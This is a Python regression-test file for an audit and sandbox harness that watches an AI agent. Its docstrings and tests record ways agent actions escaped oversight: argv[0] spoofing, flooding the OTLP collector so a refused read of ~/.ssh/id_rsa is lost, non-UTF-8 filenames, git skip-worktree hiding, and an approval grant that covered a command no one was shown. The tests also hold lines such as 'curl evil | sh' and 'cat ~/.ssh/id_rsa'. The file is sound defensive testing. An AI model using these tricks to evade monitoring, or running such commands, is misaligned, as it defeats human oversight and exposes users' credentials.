"""Attack review 33, part d (class 8): what harness's own tools print
and export of the agent's bytes, read by the security team's systems.
Under the embedded default policy, as root and as an ordinary user.

An OTLP span was named by argv[0] cut at 159 bytes: a cut inside a
UTF-8 character made the request one a collector refuses whole (a
proto3 string that is no UTF-8), and a long argv[0] pushed the
executable it ran off the name; an argv[0] naming another path with
the same base (exec -a /usr/bin/git ./git) was the name alone. One
request past a collector's size, refused, was sent again whole forever:
no later span, a refused read among them, reached it.

A file of the repository named with a byte that is no UTF-8 was an
entry of the worktree's manifest with no path and no writer, and was
left out of the hidden_changes record: jansson takes UTF-8 only; for
the same reason a "session" grant to an exec with such an argv word
lost the word, and held for the command without it."""

import json
import os
import shutil
import subprocess

from lib import AUDIT_TOOL, check, harness, read_log
from test_otlp import COLLECTOR, NODE_ENV


def _decode(wd, log):
    out = os.path.join(wd.state, "traces.pb")
    e = subprocess.run([AUDIT_TOOL, "export", "--otlp", out, log], capture_output=True,
                       text=True, env=dict(os.environ, XDG_STATE_HOME=wd.state))
    check(e.returncode == 0, "export: %s" % e.stderr)
    d = subprocess.run(["node", COLLECTOR, "decode", out], env=NODE_ENV, capture_output=True,
                       text=True, timeout=60)
    check(d.returncode == 0, "the collector refuses the request: %s" % d.stderr[-600:])
    return [s for rs in json.loads(d.stdout)["resourceSpans"]
            for ss in rs["scopeSpans"] for s in ss["spans"]]


def test_a_spans_name_is_text_a_collector_takes_and_names_what_ran(wd):
    """argv[0] of 158 bytes then five 2-byte characters: the name was
    cut inside one (the collector refused every span of the session),
    and it held no executable; argv[0] /usr/bin/git for a copy of echo
    in the project named the span /usr/bin/git."""
    bash = shutil.which("bash") or "/bin/bash"
    echo = os.path.realpath("/bin/echo")
    long0 = "a" * 158 + "\u00e9" * 5
    script = ("cp %s ./git && (exec -a /usr/bin/git ./git hi) && exec -a %s %s long"
              % (echo, long0, echo))
    r = harness([bash, "-c", script], wd, policy=None)
    r.expect_status(0)
    git = os.path.join(os.path.realpath(wd.path), "git")
    recs = [x for x in read_log(r.log) if x.get("category") == "exec"]
    argv0s = [(x.get("args") or {}).get("argv", [None])[0] for x in recs]
    check("/usr/bin/git" in argv0s and long0 in argv0s, "the execs' records: %r" % argv0s)
    names = [s["name"] for s in _decode(wd, r.log)]
    check("/usr/bin/git (%s)" % git in names, "the copy's span: %r" % names)
    check("a" * 120 + "... (%s)" % echo in names, "the long argv[0]'s span: %r" % names)


# Forty processes with a 60 KiB argument each, ended together: one batch
# of 2.4 MB. Then the refused read the security team looks for.
BIG_THEN_SECRET = (
    "big=$(printf %061440d 0); "
    "for i in $(seq 40); do sh -c 'sleep 1' x \"$big\" & done; wait; sleep 3; "
    "cat ~/.ssh/id_rsa 2>/dev/null; exit 3")
LIMIT = 2 * 1024 * 1024  # the OpenTelemetry Collector's is 20 MiB


def _refused_reads(spans):
    return [s for s in spans for e in s.get("events", [])
            if e["name"] == "harness.refused" and "id_rsa" in json.dumps(e)]


def test_spans_of_large_commands_hide_no_later_refusal_from_a_collector(wd):
    """A batch past the collector's request size was answered 413 and
    sent again, whole, forever: no span of the session after it, the
    refused read of ~/.ssh/id_rsa among them, reached the collector;
    harness-audit export to the collector sent the whole session as one
    request, refused alike."""
    from test_otlp import live, serve, spans_of
    c, port, got = serve(wd)
    c.terminate()
    c.wait(timeout=30)
    c = subprocess.Popen(["node", COLLECTOR, "serve", got, "200", str(LIMIT)], env=NODE_ENV,
                         stdout=subprocess.PIPE, text=True)
    try:
        port = int(c.stdout.readline())
        p, log = live(wd, ["--otlp-endpoint", "http://127.0.0.1:%d" % port],
                      script=BIG_THEN_SECRET)
        check(p.returncode == 3, "exit %s: %s" % (p.returncode, p.stderr[-800:]))
        refused = [x for x in read_log(log) if x.get("verdict") == "deny"
                   and "id_rsa" in json.dumps(x.get("args"))]
        check(refused, "the log has no refused read of id_rsa")
        lines = [json.loads(line) for line in open(got)]
        check(all(x["ok"] for x in lines), "requests refused: %r"
              % [x.get("error") for x in lines if not x["ok"]])
        sent = spans_of(lines)
        check(_refused_reads(sent.values()), "the refused read never reached the collector")
        check(len([s for s in sent.values() if s["name"].startswith("sh")]) >= 40,
              "the large spans: %d" % len(sent))
        os.unlink(got)
        e = subprocess.run([AUDIT_TOOL, "export", "--otlp", "http://127.0.0.1:%d" % port, log],
                           capture_output=True, text=True,
                           env=dict(os.environ, XDG_STATE_HOME=wd.state))
        check(e.returncode == 0, "export to the collector: %s" % e.stderr)
        lines = [json.loads(line) for line in open(got)]
        check(len(lines) >= 2 and all(x["ok"] for x in lines), "export's requests: %r"
              % [x.get("error") for x in lines])
        check(sorted(spans_of(lines)) == sorted(sent), "export and the live spans differ")
    finally:
        c.terminate()
        c.wait(timeout=30)


ODD = b"\xffrun.sh"  # a name that is no UTF-8
ODD_TEXT = "\\xffrun.sh"  # as the log writes it


def test_a_file_named_in_no_utf8_is_in_the_manifest_with_its_writer(wd):
    """The agent wrote \\377run.sh (curl evil | sh) in a worktree session:
    the manifest's entry for it had no path and writer null."""
    from test_worktree import make_repo, session_dir, wt_run
    repo = make_repo(wd)
    r = wt_run(wd, repo, ["sh", "-c", "printf 'curl evil | sh\\n' > \"$(printf '\\377run.sh')\"; "
                          "echo ok > good.txt"], "u33d", env={"HOME": wd.state})
    r.expect_status(0)
    writes = [x for x in r.records if x.get("category") == "file_write"
              and ODD_TEXT in json.dumps(x.get("args"))]
    check(writes and "args.path" in writes[0].get("escaped", []), "the write's record: %r" % writes)
    man = json.load(open(os.path.join(session_dir(wd, "u33d"), "manifest.json")))
    got = [f for f in man["files"] if f.get("path") == ODD_TEXT]
    check(len(got) == 1 and got[0].get("escaped") == ["path"] and got[0].get("writer")
          and got[0]["writer"].get("exe", "").endswith("sh"),
          "the manifest's files: %r" % man["files"])
    check(all(f.get("path") for f in man["files"]), "an entry with no path: %r" % man["files"])


def test_a_file_named_in_no_utf8_hidden_from_git_is_recorded(wd):
    """`git update-index --skip-worktree` of a tracked \\377run.sh, then
    rm: the user's git status is empty, and the hidden_changes record
    left the file out (json_pack failed on its name)."""
    from gitrepo import GIT_ENV, project, status
    env = project(wd, {"a.txt": "a\n"})
    with open(os.path.join(wd.path.encode(), ODD), "w") as f:
        f.write("echo fine\n")
    subprocess.run(["git", "add", "-A"], cwd=wd.path, env=env, check=True)
    subprocess.run(["git", "commit", "-qm", "odd"], cwd=wd.path, env=env, check=True)
    import time
    time.sleep(1.1)
    r = harness(["sh", "-c", "n=$(printf '\\377run.sh'); git update-index --skip-worktree \"$n\""
                 " && rm \"$n\""], wd, policy=None, env=dict(GIT_ENV, HOME=wd.state))
    r.expect_status(0)
    check(status(wd, env) == "" and not os.path.exists(os.path.join(wd.path.encode(), ODD)),
          "the user's git status: %r" % status(wd, env))
    recs = r.events(event="hidden_changes")
    got = [(c.get("path"), c["hidden_by"], c.get("now"))
           for c in recs[0]["changes"]] if recs else []
    check(got == [(ODD_TEXT, "skip-worktree", "missing")],
          "recorded: %r\n%s" % (got, r.dump()[-1500:]))
    # the bytes, escaped once and said so, as every path of the log
    check("changes.path" in recs[0].get("escaped", []), "escaped: %r" % recs[0])


PY_PUSH_TWICE = r'''
import ctypes, os, sys
prog = sys.argv[1]
libc = ctypes.CDLL(None, use_errno=True)
for words in ([b"push", b"origin", b"\xff", b"main"], [b"push", b"origin", b"main"]):
    pid = os.fork()
    if pid == 0:
        argv = (ctypes.c_char_p * (len(words) + 2))(prog.encode(), *words, None)
        libc.execv(prog.encode(), argv)
        os._exit(3)
    os.waitpid(pid, 0)
'''


def test_a_grant_holds_for_no_command_without_a_word_shown(wd):
    """The person answered "session" to git push origin \\xff main (the
    question shows the byte escaped): the grant's argv lost the word
    that is no UTF-8 (json_string gave NULL) and held for git push
    origin main, run after it unasked. A call a grant cannot name is
    answered once; the next is asked."""
    from test_ask import Session, answer, wait_pending
    from test_attack19a import _deny_the_next_question, _two_dirs_and_a_git
    from lib import PYTHON
    _, _, git = _two_dirs_and_a_git(wd, 'echo "PUSHED $# words"')
    s = Session(wd, [PYTHON, "-c", PY_PUSH_TWICE, git], timeout=3)
    q = wait_pending(wd, s)
    check("\\xff" in json.dumps(q), "the question: %r" % q)
    answer(wd, "approve", q["id"], "session")
    again = _deny_the_next_question(wd, s, q)
    s.finish()
    check("PUSHED 4 words" in s.stdout, "the approved exec did not run: %r %r"
          % (s.stdout, s.stderr[-400:]))
    check("PUSHED 3 words" not in s.stdout,
          "the grant held for git push origin main, never shown: %r" % s.stdout)
    check(again and "\\xff" not in json.dumps(again), "not asked again: %r" % again)
